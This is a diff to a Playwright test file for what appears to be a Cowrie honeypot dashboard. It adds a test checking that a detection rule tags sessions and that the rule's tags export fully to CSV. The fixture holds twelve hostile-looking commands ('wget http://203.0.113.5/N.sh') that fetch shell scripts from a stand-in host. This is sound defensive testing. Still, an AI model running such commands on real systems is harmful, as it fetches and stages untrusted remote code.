@@ -1,7 +1,7 @@
 import { readFile } from 'node:fs/promises';
 import { expect, test } from '@playwright/test';
 import { violations } from './axe';
-import { logOf, pushKey } from './cowrie';
+import { logOf, push, pushKey } from './cowrie';
 import { logIn, watch } from './server';
 
 const MANY = 300;
@@ -96,4 +96,26 @@ test('a list that is here whole is downloaded whole, though it is shown in pages
   await page.getByRole('menuitem', { name: /^JSON, all/ }).click();
   const file = await readFile(await (await coming).path(), 'utf8');
   expect(JSON.parse(file) as unknown[]).toHaveLength(parseInt(told, 10));
+});
+
+test('tags of a rule are downloaded to the last, though they are read by cursors', async ({ page, request }) => {
+  const token = await logIn(page);
+  const headers = { Authorization: `Bearer ${token}` };
+  const session = `tags${Date.now().toString(16)}`;
+  const commands = Array.from({ length: 12 }, (_, at) => `wget http://203.0.113.5/${at}.sh`);
+  await push(request, await pushKey(request, token), { session, address: '198.51.100.41', commands });
+  const tags = async () => {
+    const answer = await request.get('/api/v1/ttp/rules/R0012/tags?limit=1000', { headers });
+    return ((await answer.json()) as { data: { session_id: string }[] }).data;
+  };
+  await expect
+    .poll(async () => (await tags()).filter((tag) => tag.session_id.endsWith(session)).length)
+    .toBeGreaterThanOrEqual(12);
+
+  await page.goto('/rules/R0012');
+  await page.getByRole('button', { name: 'Download the tags shown' }).click();
+  const coming = page.waitForEvent('download');
+  await page.getByRole('menuitem', { name: /^CSV, all/ }).click();
+  const file = await readFile(await (await coming).path(), 'utf8');
+  expect(file.trim().split('\r\n').length - 1).toBe((await tags()).length);
 });
